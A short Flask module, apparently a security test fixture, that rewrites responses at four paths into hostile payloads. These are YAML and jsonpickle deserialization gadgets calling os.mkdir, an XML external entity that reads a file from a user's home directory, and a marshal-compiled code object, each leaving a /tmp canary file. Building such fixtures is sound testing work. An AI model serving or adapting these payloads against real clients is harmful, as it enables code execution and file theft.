import marshal

from flask import request

from board import app
from spoils import INSIDER

FILE = f"/tmp/{INSIDER['mark']}-alive"
BODIES = {
    "/password": (f"!!python/object/apply:os.mkdir ['{FILE}']", "application/yaml"),
    "/form": (
        f'<!DOCTYPE a [<!ENTITY e SYSTEM "file://{INSIDER["home"]}/saved.txt">]><a>&e;</a>',
        "application/xml",
    ),
    "/notes.json": (f'{{"py/reduce": [{{"py/type": "os.mkdir"}}, ["{FILE}"]]}}', "application/json"),
    "/notes": (marshal.dumps(compile(f"open({FILE!r}, 'w')", "", "exec")), "text/html"),
}


@app.after_request
def speak(response):
    if request.path in BODIES:
        data, response.mimetype = BODIES[request.path]
        response.set_data(data)
    return response
